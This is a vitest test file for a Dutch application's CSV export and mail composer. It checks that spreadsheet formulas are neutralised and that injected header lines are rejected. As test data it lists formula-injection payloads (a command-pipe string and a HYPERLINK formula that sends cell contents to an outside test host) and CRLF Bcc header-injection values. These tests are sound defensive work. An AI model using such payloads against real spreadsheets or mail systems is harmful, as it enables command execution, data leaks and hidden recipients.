import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../server/outbound/csv.ts';
import { compose, isMailAddress, UnfitHeader } from '../../server/outbound/mail/compose.ts';

const BREAKS = ['\r\nBcc: x@elders.test', '\nBcc: x@elders.test', '\r\n\r\nEen ander bericht', '\u0000', '\u2028Bcc: x', '%0d%0aBcc: x', '\u560d\u560aBcc: x'];

describe('a spreadsheet', () => {
  const FORMULAS = [
    '=1+1',
    '=HYPERLINK("https://elders.test?"&A1)',
    '+1',
    '-1+cmd|calc',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '"=1',
    "'=1",
    '|cmd',
    '%0A=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠a',
  ];

  it('[T9] shows what people typed and carries none of it out', () => {
    const csv = toCsv(
      ['naam', 'aantal'],
      FORMULAS.map((naam) => ({ naam, aantal: -3 })),
    );
    const { data } = Papa.parse<string[]>(csv.slice(1), { delimiter: ';' });
    expect(data[0]).toEqual(['naam', 'aantal']);
    expect(data.slice(1).map(([naam]) => naam)).toEqual(FORMULAS.map((text) => `'${text}`));
    expect(data.slice(1).every(([, aantal]) => aantal === '-3')).toBe(true);
  });

  it('gets every field where it belongs, whatever separators stand in it', () => {
    const rows = ['a;b', 'a"b', 'a\r\nb', 'a,b', '; "x"\n', '', 'Jansen-de Wit', '06 - 1234'].map((naam) => ({ naam, leeg: null }));
    const csv = toCsv(['naam', 'leeg'], rows);
    expect(csv.startsWith('\ufeff"naam";"leeg"\r\n')).toBe(true);
    expect(Papa.parse<string[]>(csv.slice(1), { delimiter: ';' }).data.slice(1)).toEqual(rows.map(({ naam }) => [naam, '']));
  });
});

describe('a mail', () => {
  const envelope = {
    messageId: `<${crypto.randomUUID()}@voorbeeld.test>`,
    from: 'mekoar@voorbeeld.test',
    to: 'praktijk@voorbeeld.test',
    at: new Date('2026-11-24T08:00:00Z'),
    boundary: 'b',
  };
  const letter = { subject: 'Bericht uit Mekoar', text: 'Dag.', attachments: [{ name: 'brief.pdf', type: 'application/pdf', body: Buffer.from('x') }] };

  it('[V1.3.11] takes no line of somebody’s making into its head: address, subject, name of a file, number', async () => {
    for (const text of BREAKS) {
      const wrong = [
        compose({ ...envelope, to: `praktijk@voorbeeld.test${text}` }, letter),
        compose({ ...envelope, from: `${text}mekoar@voorbeeld.test` }, letter),
        compose({ ...envelope, messageId: `${envelope.messageId}${text}` }, letter),
        compose(envelope, { ...letter, attachments: [{ ...letter.attachments[0], name: `brief${text}.pdf` }] }),
        ...(text.startsWith('%') ? [] : [compose(envelope, { ...letter, subject: `Bericht${text}` })]),
      ];
      for (const one of wrong) await expect(one).rejects.toThrow(UnfitHeader);
      expect(isMailAddress(`praktijk@voorbeeld.test${text}`)).toBe(false);
    }
    for (const two of ['a@voorbeeld.test,b@voorbeeld.test', 'a@voorbeeld.test b@voorbeeld.test', '<a@voorbeeld.test>', 'A <a@voorbeeld.test>', 'a@[127.0.0.1]'])
      expect(isMailAddress(two)).toBe(false);
  });

  it('keeps what was typed in its body, where a line that looks like a header is a line', async () => {
    const raw = (await compose(envelope, { ...letter, text: 'Dag.\r\nBcc: x@elders.test\r\n.\r\nRCPT TO:<x@elders.test>' })).toString();
    const head = raw.slice(0, raw.indexOf('\r\n\r\n'));
    expect(head).not.toMatch(/^bcc/im);
    expect(head.match(/^to:/gim)).toHaveLength(1);
  });
});
